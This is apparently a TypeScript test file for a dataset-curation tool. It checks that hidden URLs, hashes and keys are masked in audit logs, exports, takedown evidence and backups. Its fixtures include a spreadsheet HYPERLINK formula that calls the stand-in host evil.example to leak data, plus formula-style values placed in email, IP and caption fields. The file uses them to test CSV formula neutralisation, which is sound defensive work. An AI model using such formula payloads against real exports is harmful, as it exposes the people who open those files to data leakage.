// Hidden URLs at rest: audit events written after a URL is hidden store it masked; events written before are
// masked on the way out (the page's JSON, the CSV and JSON-lines downloads, evidence bundles); a backup holds every
// hidden URL, hash and key only as sha256:<hex> and still restores, into a fresh database and over itself. CSV for
// spreadsheets never carries a live formula.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { gunzipSync } from 'node:zlib';
import { parquetWriteFile } from 'hyparquet-writer';
import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { call, request } from '@/app/api/__fixtures__/call-route';
import { userWithRole } from '@/app/api/__fixtures__/sign-in';
import { GET as audit } from '@/app/api/audit/route';
import { setDb } from '@/lib/db/get-db';
import { createTestDatabase, type TestDatabase } from '../../test/databases';
import { cliActor } from '../auth/cli-actor';
import { createUser } from '../auth/create-user';
import type { Actor } from '../auth/schemas';
import { restoreBackup } from '../backup/restore-backup';
import { writeBackup } from '../backup/write-backup';
import { flagPairs } from '../flags/flag-pairs';
import { makeTempDir } from '../ingest/__fixtures__/make-temp-dir';
import { ingestDataset } from '../ingest/ingest-dataset';
import { MARK, writeHiddenFixture, type FixtureRow } from '../pairs/__fixtures__/write-hidden-fixture';
import { maskedForm } from '../masking/mask-hidden';
import { createTakedown } from '../takedowns/create-takedown';
import { getTakedownEvidence } from '../takedowns/get-takedown-evidence';
import { matchTakedown } from '../takedowns/match-takedown';

let t: TestDatabase;
let tmp: Awaited<ReturnType<typeof makeTempDir>>;
let folders: { main: string; mirror: string };
let rows: FixtureRow[];
let reviewer: string;
let formulaUser: Actor;
let firstTakedown: number;
const FORMULA_URL = '=HYPERLINK("http://evil.example/?leak","open me")';
const opened: TestDatabase[] = [];

beforeAll(async () => {
  t = await createTestDatabase();
  setDb(t.db);
  tmp = await makeTempDir('masking');
  process.env.SIEVE_HOME = join(tmp.dir, 'home');
  const f = await writeHiddenFixture(tmp.dir);
  folders = f;
  rows = f.rows.main;
  await ingestDataset(t.db, { path: f.main, dataset: 'main' });
  await ingestDataset(t.db, { path: f.mirror, dataset: 'mirror' });
  parquetWriteFile({
    filename: join(tmp.dir, 'formula.parquet'),
    columnData: [
      { name: 'URL', data: [FORMULA_URL], type: 'STRING' },
      { name: 'TEXT', data: ['+1+2 a caption'], type: 'STRING' },
      { name: 'key', data: ['formula-key'], type: 'STRING' },
    ],
  });
  await ingestDataset(t.db, { path: join(tmp.dir, 'formula.parquet'), dataset: 'formula' });
  reviewer = (await userWithRole(t.db, 'reviewer')).cookie;
  const { user } = await createUser(t.db, cliActor(), { email: '+cmd@evil.example', role: 'curator', password: 'correct horse battery' });
  formulaUser = { kind: 'user', id: user.id, email: user.email, name: null, role: 'curator', via: 'session', ip: '-1+1' };

  // Written while nothing is hidden: a takedown naming the source's URL, hash and key, and a flag note quoting it.
  const [source] = await t.db.query<{ id: number }>('SELECT id FROM pairs WHERE caption = $1', [rows[0].caption]);
  firstTakedown = await createTakedown(t.db, formulaUser, {
    kind: 'privacy', requester: 'Jane', contact: 'jane@example.org',
    items: [{ kind: 'url', value: rows[0].url }, { kind: 'hash', value: rows[0].hash }, { kind: 'key', value: rows[0].key }],
  });
  await flagPairs(t.db, formulaUser, { target: { kind: 'pairs', pairIds: [source.id] }, reason: 'hate', note: rows[0].url });
  await flagPairs(t.db, formulaUser, { target: { kind: 'pairs', pairIds: [source.id] }, reason: 'csam_suspected' });
  // Written once it is hidden: the source's URL stored masked; the look-alike's (not a source's URL) masked on the way out.
  await createTakedown(t.db, formulaUser, { kind: 'privacy', requester: 'Jim', contact: 'jim@example.org', items: [{ kind: 'url', value: rows[0].url }, { kind: 'url', value: rows[1].url }] });
});
afterAll(async () => {
  setDb(undefined);
  for (const x of [t, ...opened]) await x?.close();
  await tmp?.cleanup();
});

const auditAs = async (format: string) => {
  const res = await call(audit, request('GET', `/api/audit?format=${format}&limit=500`, undefined, { cookie: reviewer }));
  expect(res.status).toBe(200);
  return res.text();
};

describe('audit events', () => {
  it('store a URL the rule hides masked when written after it was hidden (and a takedown\'s URLs always by digest)', async () => {
    const flagged = await t.db.query<{ details: string }>("SELECT details::text FROM audit_events WHERE action = 'flag.create' ORDER BY id");
    expect(flagged.some((e) => e.details.includes(rows[0].url))).toBe(true);
    const stored = await t.db.query<{ details: string }>("SELECT details::text FROM audit_events WHERE action = 'takedown.create' ORDER BY id");
    expect(stored[0].details).not.toContain(rows[0].url);
    expect(stored[1].details).not.toContain(rows[0].url);
    expect(stored[1].details).toContain(maskedForm(rows[0].url));
  });

  it('never show a hidden URL, hash or key in the page, the CSV or the JSON lines, and show it masked', async () => {
    // The negative control: the database still holds them in clear (it refuses to rewrite an event).
    expect(JSON.stringify(await t.db.query('SELECT details FROM audit_events'))).toContain(`${MARK}source`);
    for (const format of ['json', 'csv', 'jsonl']) {
      const text = await auditAs(format);
      expect(text, format).not.toContain(MARK);
      for (const s of [rows[0].url, rows[0].hash, rows[0].key, rows[1].url]) expect(text, format).toContain(maskedForm(s));
    }
    const bundle = await getTakedownEvidence(firstTakedown, 'json', t.db);
    expect(bundle).toContain('takedown.create');
    const events = (JSON.parse(bundle) as { events: unknown[] }).events;
    expect(JSON.stringify(events)).not.toContain(MARK);
  });

  it('as CSV for a spreadsheet, carry no live formula (an e-mail or address starting with + or -)', async () => {
    const csv = Papa.parse<Record<string, string>>((await auditAs('csv')).trim(), { header: true, newline: '\r\n' }).data;
    const mine = csv.filter((r) => r.actor === formulaUser.id);
    expect(mine.length).toBeGreaterThan(0);
    for (const r of mine) {
      expect(r.actorEmail).toBe("'+cmd@evil.example");
      expect(r.ip).toBe("'-1+1");
    }
  });
});

describe('takedown evidence CSV', () => {
  it('neutralises a formula a scraped URL carries', async () => {
    const id = await createTakedown(t.db, formulaUser, { kind: 'privacy', requester: 'J', contact: 'j@example.org', items: [{ kind: 'key', value: 'formula-key' }] });
    await matchTakedown(t.db, formulaUser, id);
    const [row] = Papa.parse<Record<string, string>>((await getTakedownEvidence(id, 'csv', t.db)).trim(), { header: true, newline: '\r\n' }).data;
    expect(row.url).toBe(`'${FORMULA_URL}`);
  });
});

describe('backups', () => {
  let file: string;

  it('hold every hidden URL, hash and key only masked', async () => {
    file = join(tmp.dir, 'sieve.backup.gz');
    await writeBackup(t.db, file);
    const text = gunzipSync(await readFile(file)).toString('utf8');
    expect(text).not.toContain(MARK);
    for (const s of [rows[0].url, rows[0].hash, rows[0].key, rows[1].url]) expect(text).toContain(maskedForm(s));
    // The takedown items too, however the database keeps them.
    expect(text).toMatch(/"t":"takedown_items".*"value":"sha256:[0-9a-f]{64}"/);
  });

  it('restore into a fresh database, and over the database they came from (masked equals clear)', async () => {
    const fresh = await createTestDatabase();
    opened.push(fresh);
    await ingestDataset(fresh.db, { path: folders.main, dataset: 'main' });
    await ingestDataset(fresh.db, { path: folders.mirror, dataset: 'mirror' });
    await ingestDataset(fresh.db, { path: join(tmp.dir, 'formula.parquet'), dataset: 'formula' });
    const first = await restoreBackup(fresh.db, cliActor(), file);
    expect(first.tables.flags.added).toBe(2);
    expect(first.tables.audit_events.added).toBeGreaterThan(5);
    // The restored csam_suspected flag hides its pairs again.
    expect((await fresh.db.query('SELECT DISTINCT pair_id FROM hidden_pairs')).length).toBe(3);
    expect(JSON.stringify(await fresh.db.query('SELECT details FROM audit_events'))).not.toContain(MARK);
    const again = await restoreBackup(t.db, cliActor(), file);
    expect(Object.values(again.tables).every((c) => c.added === 0)).toBe(true);
    expect(again.tables.takedown_items.present).toBeGreaterThan(0);
  });
});
